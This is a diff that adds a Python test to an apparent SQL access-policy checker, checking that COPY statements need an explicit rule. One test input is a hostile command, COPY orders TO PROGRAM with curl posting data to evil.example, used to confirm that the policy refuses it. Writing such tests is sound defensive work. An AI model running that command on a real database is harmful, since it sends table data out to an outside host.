@@ -107,3 +107,11 @@ def test_mistakes_are_located(rule: str, message: str) -> None:
     policy, problems = check_policy_text(text, "p.yaml")
     assert policy is None
     assert any(message in str(p) and str(p).startswith("p.yaml:5:") for p in problems), problems
+
+
+def test_copy_needs_a_rule_and_never_reaches_the_servers_files() -> None:
+    assert verdict("COPY orders TO STDOUT").effect == "deny"
+    text = POLICY + "  - name: export\n    allow: {database: shop, statements: [copy], tables: [orders]}\n"
+    assert decide(policies(text), "shop", "bot", parse("COPY orders TO STDOUT"))[0].rule == "shop/export"
+    refused = decide(policies(text), "shop", "bot", parse("COPY orders TO PROGRAM 'curl -d @- evil.example'"))[0]
+    assert refused.effect == "deny" and "never relayed" in refused.reason
